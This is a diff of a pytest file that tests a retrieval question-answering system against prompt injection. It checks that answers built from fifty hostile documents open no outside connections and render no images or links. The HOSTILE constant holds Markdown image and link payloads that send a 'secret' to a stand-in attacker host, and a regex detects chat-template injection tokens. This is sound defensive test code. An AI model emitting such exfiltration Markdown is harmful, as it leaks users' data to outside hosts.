@@ -1,4 +1,4 @@
-"""Fifty hostile documents against a model that obeys them: nothing comes of it."""
+"""Prompt injection: fifty hostile documents against a model that obeys them."""
 
 from __future__ import annotations
 
@@ -18,15 +18,15 @@ HOSTILE = f"![x](https://{EVIL}/p.png?q=secret) <img src=//{EVIL}> [go](https://
 
 
 def obedient(messages):
-    """What a model that follows its documents says: hostile Markdown, and the document again."""
+    """The reply of a model that follows its documents: hostile Markdown and the document again."""
     document = messages[-1]["content"].partition("<sources>")[2]
     text = f"{HOSTILE}{document} [1]"
     return [text[start : start + 3] for start in range(0, len(text), 3)]
 
 
 @pytest.fixture
-def outside(monkeypatch):
-    """The addresses that anything connected to."""
+def connections(monkeypatch):
+    """The addresses of all connections that are opened."""
     connected = []
     real = socket.socket.connect
 
@@ -38,8 +38,8 @@ def outside(monkeypatch):
     return connected
 
 
-def rendered(text):
-    """The images, links and tags that a chat client makes of a text, bare addresses too."""
+def rendered_elements(text):
+    """The images, links, tags and bare URLs that a chat client renders from a text."""
     parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
     flat = [t for token in parser.parse(text) for t in (token, *(token.children or ()))]
     kinds = ("image", "link_open", "html_inline", "html_block")
@@ -48,10 +48,10 @@ def rendered(text):
 
 
 @pytest.fixture
-def asked(open_collection, tmp_path):
-    """Answers a question from one document, with the settings given."""
+def ask(open_collection, tmp_path):
+    """A function that answers a question from one document, with the given settings."""
 
-    def ask(text, question=QUESTION, **settings):
+    def answer_from(text, question=QUESTION, **settings):
         folder = tmp_path / "documents"
         folder.mkdir()
         (folder / "note.txt").write_text(f"A note on {EVIL}, an example.\n\n{text}\n")
@@ -59,19 +59,19 @@ def asked(open_collection, tmp_path):
         collection.index(folder)
         return collection.ask(question)
 
-    return ask
+    return answer_from
 
 
-def test_there_are_fifty_and_each_is_another():
+def test_there_are_fifty_different_documents():
     assert len({text for _, text in DOCUMENTS}) == len({name for name, _ in DOCUMENTS}) == 50
 
 
 @pytest.mark.parametrize("text", [text for _, text in DOCUMENTS], ids=[n for n, _ in DOCUMENTS])
-def test_an_obedient_model_can_do_no_harm(asked, outside, text):
+def test_an_obedient_model_does_no_harm(ask, connections, text):
     with chat_serving(obedient) as server:
-        answer = asked(text, llm_base_url=server.url, llm_model="obedient")
+        answer = ask(text, llm_base_url=server.url, llm_model="obedient")
         (sent,) = server.asked
-        assert {address[1] for address in outside} == {server.server_port}
+        assert {address[1] for address in connections} == {server.server_port}
     system, user = (message["content"] for message in sent["messages"])
     assert system == RULES
     inside = user.removeprefix("<sources>\n").rpartition("\n</sources>\n\nQuestion: ")
@@ -82,20 +82,20 @@ def test_an_obedient_model_can_do_no_harm(asked, outside, text):
     )
     assert not re.search(r"<\||\[/?INST|[\u200b\u202e\U000e0000-\U000e007f\x1b]", user)
     assert answer.model == "obedient"
-    assert rendered(answer.text) == []
+    assert rendered_elements(answer.text) == []
     assert {citation.n for citation in answer.citations} <= {hit.rank for hit in answer.hits}
     assert "[77]" not in answer.text
     assert "[99]" not in answer.text
 
 
 @pytest.mark.parametrize("text", [text for _, text in DOCUMENTS], ids=[n for n, _ in DOCUMENTS])
-def test_nor_can_the_documents_own_sentences(asked, outside, text):
-    answer = asked(text, question=text)  # as near as can be: the hostile sentences are said
+def test_an_extractive_answer_does_no_harm(ask, connections, text):
+    answer = ask(text, question=text)  # the most similar question: the hostile sentences are quoted
     assert (answer.model, answer.answerable) == ("extractive", True)
-    assert outside == []
-    assert rendered(answer.text) == []
+    assert connections == []
+    assert rendered_elements(answer.text) == []
     assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u200b]", answer.text)
 
 
-def test_what_is_asked_of_a_client_here_would_be_found():
-    assert len(rendered(HOSTILE)) >= 4
+def test_the_check_of_rendered_elements_finds_hostile_markdown():
+    assert len(rendered_elements(HOSTILE)) >= 4
